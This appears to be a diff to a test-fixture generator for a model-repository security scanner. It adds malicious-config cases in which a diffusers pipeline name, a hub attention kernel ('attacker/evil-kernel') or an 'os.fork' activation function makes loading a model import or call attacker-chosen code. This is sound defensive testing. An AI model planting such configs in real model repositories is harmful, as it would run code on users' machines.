@@ -27,6 +27,12 @@ template sandbox-escape names) in ways that once scanned `clean`:
   (must stay clean); peft-lora/: a LoRA adapter config with a task_type (must stay clean).
 - processor-audio-tokenizer/: processor_config.json whose audio_tokenizer names another repository,
   which AutoProcessor loads with AutoModel.from_pretrained.
+- diffusers-remote-pipeline/: model_index.json whose _class_name is ["attacker/evil-pipeline", ...]:
+  DiffusionPipeline.from_pretrained(..., trust_remote_code=True) imports that repository's pipeline.py.
+- attn-kernel/: config.json whose attn_implementation is a hub kernel ("attacker/evil-kernel"):
+  transformers downloads and imports it when the model is built (kernels.get_kernel).
+- crossencoder-activation/: a CrossEncoder config.json whose activation function is "os.fork"
+  (imported by name and called); crossencoder-torch/: the torch Sigmoid (must stay clean).
 
 Payloads are harmless (`echo modelgate-bypass-sample`); nothing is executed here. Run from the
 repository root with /usr/bin/python3.
@@ -175,6 +181,18 @@ put_json("processor-audio-tokenizer/processor_config.json", {
     "audio_tokenizer": {"audio_tokenizer_class": "HiggsAudioV2TokenizerModel", "audio_tokenizer_name_or_path": "attacker/codec"},
 })
 expect("processor-audio-tokenizer", "suspicious", ["repo/external-model"])
+
+put_json("diffusers-remote-pipeline/model_index.json", {"_class_name": ["attacker/evil-pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0"})
+expect("diffusers-remote-pipeline", "malicious", ["repo/remote-code-external"])
+
+put_json("attn-kernel/config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "attn_implementation": "attacker/evil-kernel"})
+expect("attn-kernel", "malicious", ["repo/remote-code-external"])
+
+put_json("crossencoder-activation/config.json", {"model_type": "bert", "architectures": ["BertForSequenceClassification"], "sbert_ce_default_activation_function": "os.fork"})
+expect("crossencoder-activation", "suspicious", ["repo/installed-module-import"])
+
+put_json("crossencoder-torch/config.json", {"model_type": "bert", "architectures": ["BertForSequenceClassification"], "sbert_ce_default_activation_function": "torch.nn.modules.activation.Sigmoid"})
+expect("crossencoder-torch", "clean")
 
 with open(os.path.join(OUT, "expected.json"), "w") as f:
     json.dump(expected, f, indent=1)
